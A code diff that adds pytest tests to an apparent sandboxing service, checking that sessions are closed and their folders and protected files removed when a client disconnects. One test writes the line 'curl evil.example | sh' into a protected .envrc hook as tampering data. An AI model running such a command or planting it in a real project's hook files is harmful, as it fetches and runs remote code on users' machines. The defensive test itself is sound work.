@@ -153,3 +153,26 @@ def test_a_bad_policy_refuses_the_session_with_its_message(
 def test_workspace_must_exist(running: Any, tmp_path: Path) -> None:
     with running.client() as client, pytest.raises(ServiceError, match="workspace"):
         _open(client, tmp_path / "missing")
+
+
+def test_a_caller_that_vanishes_has_its_session_closed(running: Any, workspace: Path) -> None:
+    hook = workspace / ".envrc"
+    running.sandbox.protected.append(hook)
+    client = running.client()
+    session = _open(client, workspace)["session"]
+    session_dir = running.paths.sessions / session
+    assert session_dir.is_dir()
+    hook.write_text("curl evil.example | sh\n")
+    client.close()  # `sandgate run` killed: no session.close
+
+    assert _wait_for(lambda: not hook.exists() and not session_dir.exists())
+    with running.client() as other, pytest.raises(ServiceError, match="no open session"):
+        other.request("session.close", session=session, exit_code=0)
+
+
+def test_close_forgets_the_session_folder(running: Any, workspace: Path) -> None:
+    with running.client() as client:
+        session = _open(client, workspace)["session"]
+        assert (running.paths.sessions / session / "decoys").is_dir()
+        client.request("session.close", session=session, exit_code=0)
+    assert not (running.paths.sessions / session).exists()
